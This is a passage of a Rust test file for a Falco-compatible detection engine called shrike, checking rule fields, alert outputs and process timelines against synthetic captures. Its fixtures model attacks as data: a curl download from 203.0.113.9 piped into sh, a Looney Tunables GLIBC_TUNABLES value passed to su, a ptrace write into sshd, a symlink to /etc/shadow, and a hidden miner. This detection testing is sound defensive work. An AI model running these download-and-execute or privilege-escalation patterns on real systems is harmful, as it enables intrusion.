        in_cg(exec(10, 200, 1, "/bin/bash", &["bash"]), 10),
        in_cg(exec(20, 300, 1, "/bin/sh", &["sh"]), 20),
    ])];
    let rules = [
        rule("host_name", "evt.type = execve and container.name = host"),
        rule(
            "host_repo",
            "evt.type = execve and container.image.repository = \"\"",
        ),
        rule(
            "unprivileged",
            "evt.type = execve and container.privileged = false",
        ),
        rule("vpid", "evt.type = execve and proc.vpid = 200"),
        rule("no_k8s", "evt.type = execve and not k8s.ns.name exists"),
        // What Falco's rules put in exceptions: a missing value matches no list.
        rule(
            "exception",
            "evt.type = execve and not container.image.repository in (docker.io/library/alpine)",
        ),
    ]
    .concat();
    assert_eq!(
        fired(&caps, &rules),
        [
            "host_name@10",
            "host_repo@10",
            "unprivileged@10",
            "vpid@10",
            "no_k8s@10",
            "exception@10",
            "no_k8s@20",
            "exception@20"
        ]
    );
}

#[test]
fn an_output_names_every_ancestor_for_proc_aname() {
    // libsinsp prints all ancestors' names, self excluded; shrike printed <NA>.
    let caps = [capture(&[
        snapshot(100, 1, "nginx", "/usr/sbin/nginx"),
        exec(10, 200, 100, "/bin/bash", &["bash"]),
        exec(20, 300, 200, "/usr/bin/id", &["id"]),
    ])];
    let mut l = Loader::new();
    l.add_str(
        "t.yaml",
        "- rule: r\n  desc: d\n  condition: evt.type = execve and proc.name = id\n  \
         output: ancestors=%proc.aname pid=%proc.apid\n  priority: INFO\n",
    )
    .unwrap();
    let engine = Engine::new(&l.finish().unwrap(), Priority::Debug);
    let (alerts, _) = scan(&caps, &History::build(&caps), &engine);
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0].output, "ancestors=bash nginx pid=300");
}

#[test]
fn proc_duration_counts_from_the_fork_or_the_snapshot_start() {
    let at = |ts: u64, pid: u32, comm: &str| {
        ev(
            ts,
            pid,
            comm,
            Body::Openat {
                res: 3,
                dirfd: -100,
                path: b"/etc/hosts".to_vec(),
                abspath: b"/etc/hosts".to_vec(),
                resolved: 1,
                flags: 0,
                mode: 0,
                created: 0,
            },
        )
    };
    let caps = [capture(&[
        snapshot(100, 1, "nginx", "/usr/sbin/nginx"), // started at 1 (the helper's start_ts)
        at(50, 100, "nginx"),
        ev(
            60,
            100,
            "nginx",
            Body::Clone {
                res: 500,
                child_pid: 500,
                child_tid: 500,
                flags: 0x11,
            },
        ),
        exec(70, 500, 100, "/bin/cat", &["cat", "/etc/hosts"]),
        at(90, 500, "cat"),
    ])];
    let rules = [
        rule("d49", "evt.type = openat and proc.duration = 49"),
        rule("d30", "evt.type = openat and proc.duration = 30"),
    ]
    .concat();
    assert_eq!(fired(&caps, &rules), ["d49@50", "d30@90"]);
}

#[test]
fn a_shell_fed_by_a_download_names_what_was_downloaded() {
    use shrike_format::fdtype;
    let pipe = (fdtype::PIPE, 777);
    let caps = [capture(&[
        snapshot(100, 1, "bash", "/bin/bash"),
        piped(
            exec(
                10,
                200,
                100,
                "/usr/bin/curl",
                &["curl", "-s", "http://203.0.113.9/x.sh"],
            ),
            (0, 0),
            pipe,
        ),
        piped(exec(11, 201, 100, "/bin/sh", &["sh"]), pipe, (0, 0)),
    ])];
    let mut l = Loader::new();
    l.add_str(
        "t.yaml",
        "- rule: r\n  desc: d\n  condition: evt.type = execve and proc.name = sh\n  \
         output: from %shrike.stdin.writer (%shrike.stdin.writer.cmdline)\n  priority: INFO\n",
    )
    .unwrap();
    let engine = Engine::new(&l.finish().unwrap(), Priority::Debug);
    let (alerts, _) = scan(&caps, &History::build(&caps), &engine);
    assert_eq!(alerts.len(), 1);
    assert_eq!(
        alerts[0].output,
        "from curl (curl -s http://203.0.113.9/x.sh)"
    );
}

/// `e` (an exec) started with environment `env` in process group `pgid`.
fn with_env(mut e: OwnedEvent, env: &[&str], group: u64) -> OwnedEvent {
    if let Body::Execve {
        env: vars, pgid, ..
    } = &mut e.body
    {
        *vars = env.iter().map(|v| v.as_bytes().to_vec()).collect();
        *pgid = group;
    }
    e
}

#[test]
fn the_environment_and_the_process_group_answer_falcos_fields() {
    let caps = [capture(&[
        cgroup(0, 1, "/user.slice"),
        snapshot(100, 1, "bash", "/bin/bash"),
        // Looney Tunables: a tunable string handed to a set-uid program.
        with_env(
            exec(10, 200, 100, "/usr/bin/su", &["su"]),
            &["PATH=/usr/bin", "GLIBC_TUNABLES=glibc.tune=glibc.tune=AAAA"],
            200,
        ),
        // A command a script ran: its group is the script's.
        with_env(
            exec(20, 300, 100, "/usr/bin/id", &["id"]),
            &["HOME=/root"],
            100,
        ),
        // Group unknown (an older capture): the leader test has no value.
        with_env(exec(30, 400, 100, "/usr/bin/id", &["id"]), &[], 0),
    ])];
    let rules = [
        rule(
            "tunables",
            "evt.type = execve and proc.env icontains GLIBC_TUNABLES",
        ),
        rule(
            "value",
            "evt.type = execve and proc.env[GLIBC_TUNABLES] startswith \"glibc.tune=\"",
        ),
        rule("joined", "evt.type = execve and proc.env = \"HOME=/root\""),
        rule(
            "unset_is_empty",
            "evt.type = execve and proc.env[HOME] = \"\" and proc.pid = 200",
        ),
        rule(
            "leader",
            "evt.type = execve and proc.is_vpgid_leader = true",
        ),
        rule(
            "follower",
            "evt.type = execve and proc.is_vpgid_leader = false",
        ),
        rule("vpgid", "evt.type = execve and proc.vpgid = 100"),
    ]
    .concat();
    assert_eq!(
        fired(&caps, &rules),
        [
            "tunables@10",
            "value@10",
            "unset_is_empty@10",
            "leader@10",
            "joined@20",
            "follower@20",
            "vpgid@20",
        ]
    );
}

#[test]
fn container_metadata_the_recorder_read_answers_falcos_fields() {
    let id = "4f9a1c0e7b2d3a5f6e8c9b0a1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e";
    let in_cg = |mut e: OwnedEvent, cg: u64| {
        e.cgroup = cg;
        e
    };
    let container = |ts: u64, cg: u64, image: &str, privileged: u64, pod: &str| {
        let mut e = ev(
            ts,
            1,
            "shrike",
            Body::Container {
                cgroup: cg,
                id: id.into(),
                runtime: b"containerd".to_vec(),
                name: b"app".to_vec(),
                image: image.into(),
                privileged,
                pod: pod.into(),
                namespace: if pod.is_empty() {
                    vec![]
                } else {
                    b"prod".to_vec()
                },
            },
        );
        e.cgroup = 0;
        e
    };
    let caps = [capture(&[
        cgroup(1, 20, &format!("/kubepods.slice/cri-containerd-{id}.scope")),
        container(
            2,
            20,
            "registry.example:5000/team/app:v2@sha256:ab",
            1,
            "app-7d9f",
        ),
        cgroup(
            3,
            30,
            &format!("/system.slice/docker-{}.scope", "ab".repeat(32)),
        ),
        container(4, 30, "alpine", 2, ""),
        in_cg(exec(10, 200, 1, "/bin/sh", &["sh"]), 20),
        in_cg(exec(20, 300, 1, "/bin/sh", &["sh"]), 30),
    ])];
    let rules = [
        rule("name", "evt.type = execve and container.name = app"),
        rule(
            "repo",
            "evt.type = execve and container.image.repository = registry.example:5000/team/app",
        ),
        rule("tag", "evt.type = execve and container.image.tag = v2"),
        rule(
            "privileged",
            "evt.type = execve and container.privileged = true",
        ),
        rule(
            "k8s",
            "evt.type = execve and k8s.ns.name = prod and k8s.pod.name = app-7d9f",
        ),
        // Unknown privilege and no Kubernetes: missing, so neither test holds.
        rule(
            "unprivileged",
            "evt.type = execve and container.privileged = false",
        ),
        rule("no_tag", "evt.type = execve and container.image.tag exists"),
        rule("no_pod", "evt.type = execve and not k8s.pod.name exists"),
    ]
    .concat();
    assert_eq!(
        fired(&caps, &rules),
        [
            "name@10",
            "repo@10",
            "tag@10",
            "privileged@10",
            "k8s@10",
            "no_tag@10",
            "name@20",
            "no_pod@20",
        ]
    );
}

#[test]
fn evt_is_open_create_is_the_kernels_word_not_o_creat() {
    let open = |ts: u64, created: u64| {
        ev(
            ts,
            1,
            "sh",
            Body::Openat {
                res: 3,
                dirfd: -100,
                path: b"/etc/cron.d/job".to_vec(),
                abspath: b"/etc/cron.d/job".to_vec(),
                resolved: 1,
                flags: 0o101,
                mode: 0o644,
                created,
            },
        )
    };
    let caps = [capture(&[
        snapshot(1, 0, "sh", "/bin/sh"),
        open(10, 1), // the kernel created the file
        open(20, 2), // O_CREAT, but the file existed
        open(30, 0), // unknown (an older capture): O_CREAT is all there is
    ])];
    let rules = [
        rule("create", "evt.type = openat and evt.is_open_create = true"),
        rule(
            "existing",
            "evt.type = openat and evt.is_open_create = false",
        ),
    ]
    .concat();
    assert_eq!(
        fired(&caps, &rules),
        ["create@10", "existing@20", "create@30"]
    );
}

#[test]
fn falcos_modifiers_and_port_service_names_keep_their_meaning() {
    let connect = |ts: u64, port: u16| {
        ev(
            ts,
            100,
            "bash",
            Body::Connect {
                res: 0,
                fd: 3,
                proto: 6,
                laddr: SockAddr::None,
                raddr: SockAddr::V4 {
                    ip: [192, 0, 2, 7],
                    port,
                },
            },
        )
    };
    let caps = [capture(&[
        snapshot(100, 1, "bash", "/bin/bash"),
        exec(10, 200, 100, "/usr/bin/python3", &["python3"]),
        exec(20, 300, 100, "/bin/bash", &["bash"]),
        connect(30, 22),
        connect(40, 443),
    ])];
    let rules = [
        rule(
            "anyof",
            "evt.type = execve and proc.name startswith anyof (py, zz)",
        ),
        rule(
            "allof",
            "evt.type = execve and proc.name contains allof (ba, sh)",
        ),
        // `b` and `ba` both start `bash`: not exactly one.
        rule(
            "oneof",
            "evt.type = execve and proc.name startswith oneof (b, ba, py)",
        ),
        rule("none", "evt.type = execve and proc.name = anyof ()"),
        rule("ssh", "evt.type = connect and fd.rport = ssh"),
        rule("web", "evt.type = connect and fd.sport in (http, https)"),
    ]
    .concat();
    assert_eq!(
        fired(&caps, &rules),
        ["anyof@10", "oneof@10", "allof@20", "ssh@30", "web@40"]
    );
    // An unknown service name is a load error, as in Falco.
    let mut l = Loader::new();
    l.add_str(
        "t.yaml",
        &rule("bad", "evt.type = connect and fd.rport = nosuchsvc"),
    )
    .unwrap();
    let engine = Engine::new(&l.finish().unwrap(), Priority::Debug);
    assert!(
        format!("{:?}", engine.errors).contains("not a port number or a service name"),
        "{:?} {:?}",
        engine.errors,
        engine.skipped
    );
}

#[test]
fn fd_nameraw_is_the_path_as_passed() {
    let caps = [capture(&[
        snapshot(1, 0, "sh", "/bin/sh"),
        ev(
            10,
            1,
            "sh",
            Body::Openat {
                res: 3,
                dirfd: -100,
                path: b"../etc//shadow".to_vec(),
                abspath: b"/etc/shadow".to_vec(),
                resolved: 1,
                flags: 0,
                mode: 0,
                created: 2,
            },
        ),
    ])];
    let rules = [
        rule("raw", "evt.type = openat and fd.nameraw = ../etc/shadow"),
        rule("name", "evt.type = openat and fd.name = /etc/shadow"),
    ]
    .concat();
    assert_eq!(fired(&caps, &rules), ["raw@10", "name@10"]);
}

#[test]
fn the_previous_program_is_the_one_the_process_exec_d_from() {
    let caps = [capture(&[
        snapshot(100, 1, "bash", "/bin/bash"),
        ev(
            10,
            100,
            "bash",
            Body::Clone {
                res: 200,
                child_pid: 200,
                child_tid: 200,
                flags: 0x11,
            },
        ),
        // bash's child becomes cargo, and cargo becomes what it built.
        exec(20, 200, 100, "/usr/bin/cargo", &["cargo", "run"]),
        exec(30, 200, 100, "/tmp/t/target/debug/hello", &["hello"]),
        ev(
            40,
            200,
            "hello",
            Body::ProcExit {
                code: 0,
                signal: 0,
                group_dead: 1,
            },
        ),
        // A new process that got the same pid exec'd from nothing known.
        exec(50, 200, 100, "/usr/bin/id", &["id"]),
    ])];
    let rules = [
        rule(
            "from_cargo",
            "evt.type = execve and shrike.previous.name = cargo",
        ),
        rule(
            "from_bash",
            "evt.type = execve and shrike.previous.name = bash",
        ),
        rule(
            "none",
            "evt.type = execve and not shrike.previous.name exists",
        ),
    ]
    .concat();
    assert_eq!(
        fired(&caps, &rules),
        ["from_bash@20", "from_cargo@30", "none@50"]
    );
}

#[test]
fn a_ptrace_or_a_signal_names_its_target_as_it_was() {
    let caps = [capture(&[
        snapshot(100, 1, "bash", "/bin/bash"),
        snapshot(300, 1, "sshd", "/usr/sbin/sshd"),
        ev(
            10,
            100,
            "bash",
            Body::Ptrace {
                res: 0,
                request: 5,
                target_pid: 300,
                addr: 0x7ffd_0000,
                data: 0x90,
            },
        ),
        ev(
            20,
            100,
            "bash",
            Body::Kill {
                res: 0,
                target_pid: -300,
                signal: 9,
            },
        ),
    ])];
    let rules = [
        rule(
            "injected",
            "evt.type = ptrace and shrike.target.name = sshd and evt.arg.addr = 0x7ffd0000 and evt.arg.data = 0x90",
        ),
        // A process group has no one process to name.
        rule("group", "evt.type = kill and not shrike.target.name exists"),
    ]
    .concat();
    assert_eq!(fired(&caps, &rules), ["injected@10", "group@20"]);
}

#[test]
fn a_program_names_the_compiler_run_that_built_it() {
    let mut gcc = exec(10, 200, 100, "/usr/bin/gcc", &["gcc", "-o", "x", "x.c"]);
    let mut run = exec(20, 300, 100, "/var/www/x", &["./x"]);
    let mut other = exec(30, 400, 100, "/var/www/y", &["./y"]);
    // An earlier run of the built program is not built by a later compile.
    let mut early = exec(5, 500, 100, "/var/www/z", &["./z"]);
    let mut late = exec(
        40,
        600,
        100,
        "/usr/bin/gcc",
        &["gcc", "-o", "/var/www/z", "z.c"],
    );
    for e in [&mut gcc, &mut run, &mut other, &mut early, &mut late] {
        e.cgroup = 0;
    }
    let caps = [capture(&[
        snapshot(100, 1, "bash", "/bin/bash"),
        early,
        gcc,
        run,
        other,
        late,
    ])];
    let rules = [
        rule(
            "built",
            "evt.type = execve and shrike.exe.built_by = gcc and shrike.exe.built_by.cmdline = \"gcc -o x x.c\"",
        ),
        rule(
            "not_built",
            "evt.type = execve and proc.name != gcc and not shrike.exe.built_by exists",
        ),
    ]
    .concat();
    assert_eq!(
        fired(&caps, &rules),
        ["not_built@5", "built@20", "not_built@30"]
    );
}

#[test]
fn every_timeline_action_names_its_object() {
    use shrike_analyze::timeline::{Selection, build};
    let file = |kind: fn(Vec<u8>) -> Body<Vec<u8>>, ts| ev(ts, 100, "sh", kind(b"/srv/x".to_vec()));
    let two = |oldp: &str, newp: &str| (oldp.as_bytes().to_vec(), newp.as_bytes().to_vec());
    let (o, n) = two("/srv/target", "/srv/link");
    let events = vec![
        exec(10, 100, 1, "/bin/sh", &["sh"]),
        file(
            |p| Body::Mkdirat {
                res: 0,
                dirfd: -100,
                path: p.clone(),
                abspath: p,
                mode: 0o755,
                resolved: 1,
            },
            20,
        ),
        ev(
            30,
            100,
            "sh",
            Body::Symlinkat {
                res: 0,
                olddirfd: -100,
                oldpath: b"../etc/shadow".to_vec(),
                oldabspath: b"/etc/shadow".to_vec(),
                newdirfd: -100,
                newpath: n.clone(),
                newabspath: n.clone(),
                flags: 0,
                resolved: 1,
            },
        ),
        ev(
            40,
            100,
            "sh",
            Body::Linkat {
                res: 0,
                olddirfd: -100,
                oldpath: o.clone(),
                oldabspath: o,
                newdirfd: -100,
                newpath: n.clone(),
                newabspath: n,
                flags: 0,
                resolved: 1,
            },
        ),
        file(
            |p| Body::Fchownat {
                res: 0,
                fd: -100,
                path: p.clone(),
                abspath: p,
                uid: 0,
                gid: u64::from(u32::MAX),
                flags: 0,
                resolved: 1,
            },
            50,
        ),
        file(
            |p| Body::Truncate {
                res: 0,
                fd: -1,
                path: p.clone(),
                abspath: p,
                length: 0,
                resolved: 1,
            },
            60,
        ),
        ev(
            70,
            100,
            "sh",
            Body::Socket {
                res: 3,
                domain: 2,
                socktype: 1,
                protocol: 0,
            },
        ),
        ev(
            80,
            100,
            "sh",
            Body::Dup2 {
                res: 0,
                oldfd: 4,
                newfd: 0,
                flags: 0,
                fdtype: shrike_format::fdtype::PIPE,
                // What the kernel gives as a pipe's path.
                path: b"/".to_vec(),
                proto: 0,
                laddr: SockAddr::None,
                raddr: SockAddr::None,
            },
        ),
    ];
    let t = build(&[capture(&events)], &Selection::default()).unwrap();
    let lines: Vec<&str> = t.processes[0]
        .actions
        .iter()
        .map(|a| a.summary.as_str())
        .collect();
    let want = [
        "mkdir /srv/x",
        "symlink /srv/link -> ../etc/shadow",
        "link /srv/link -> /srv/target",
        "chown /srv/x to root",
        "truncate /srv/x to 0 bytes",
        "socket AF_INET SOCK_STREAM",
        "dup a pipe onto fd 0",
    ];
    for w in want {
        assert!(
            lines.iter().any(|l| l.starts_with(w)),
            "no {w:?} in {lines:#?}"
        );
    }
    // And the object is the action's target, for columns and filters.
    let targets: Vec<&str> = t.processes[0]
        .actions
        .iter()
        .map(|a| a.target.as_str())
        .collect();
    assert!(
        targets.contains(&"/srv/x") && targets.contains(&"/srv/link"),
        "{targets:?}"
    );
}

#[test]
fn rotated_segments_make_one_tree_not_one_per_segment() {
    use shrike_analyze::timeline::{Selection, build};
    let later = |mut e: OwnedEvent, ts: u64| {
        e.ts = ts;
        e
    };
    // Segment 0 starts with the host's processes; segment 1 (after a
    // rotation) starts with the same processes again, still running.
    let first = capture(&[
        snapshot(1, 0, "init", "/sbin/init"),
        snapshot(50, 1, "sshd", "/usr/sbin/sshd"),
        exec(100, 60, 50, "/bin/bash", &["bash"]),
        open(200, "/etc/passwd"),
    ]);
    let second = capture(&[
        later(snapshot(1, 0, "init", "/sbin/init"), 1_000),
        later(snapshot(50, 1, "sshd", "/usr/sbin/sshd"), 1_000),
        // bash started at 100 ns in segment 0: its snapshot says so.
        {
            let mut s = later(snapshot(60, 50, "bash", "/bin/bash"), 1_000);
            if let Body::ProcSnapshot { start_ts, .. } = &mut s.body {
                *start_ts = 100;
            }
            s
        },
        open(1_100, "/etc/shadow"),
    ]);
    let t = build(&[first, second], &Selection::default()).unwrap();
    let lives = |pid: u32| t.processes.iter().filter(|p| p.pid == pid).count();
    assert_eq!(
        (lives(1), lives(50), lives(60)),
        (1, 1, 1),
        "{:#?}",
        t.processes
    );
    assert_eq!(t.roots.len(), 1, "one tree");
}

#[test]
fn an_alert_on_an_event_that_is_no_action_becomes_one() {
    use shrike_analyze::timeline::{AlertMark, Marked, Selection, build};
    let caps = [capture(&[
        snapshot(50, 1, "miner", "/tmp/.x/miner"),
        open(100, "/etc/passwd"),
    ])];
    let sel = Selection::default();
    let mut t = build(&caps, &sel).unwrap();
    let when = shrike_analyze::time::wall_ns(caps[0].header(), 1);
    t.attach_alerts(
        &[AlertMark {
            time_ns: when,
            pid: 50,
            kind: "proc_snapshot",
            marked: Marked {
                rule: "Miner running".into(),
                priority: "Critical".into(),
                output: "a miner was running".into(),
            },
        }],
        &sel,
    );
    let miner = t.processes.iter().find(|p| p.pid == 50).unwrap();
    assert_eq!(miner.actions.len(), 1, "{:#?}", miner.actions);
    assert_eq!(miner.actions[0].alerts[0].rule, "Miner running");
    assert_eq!(
        miner.actions[0].summary,
        "running when the recording started"
    );
    let mut text = Vec::new();
    t.render_text(&mut text).unwrap();
    assert!(
        String::from_utf8(text)
            .unwrap()
            .contains("!! Miner running")
    );
}
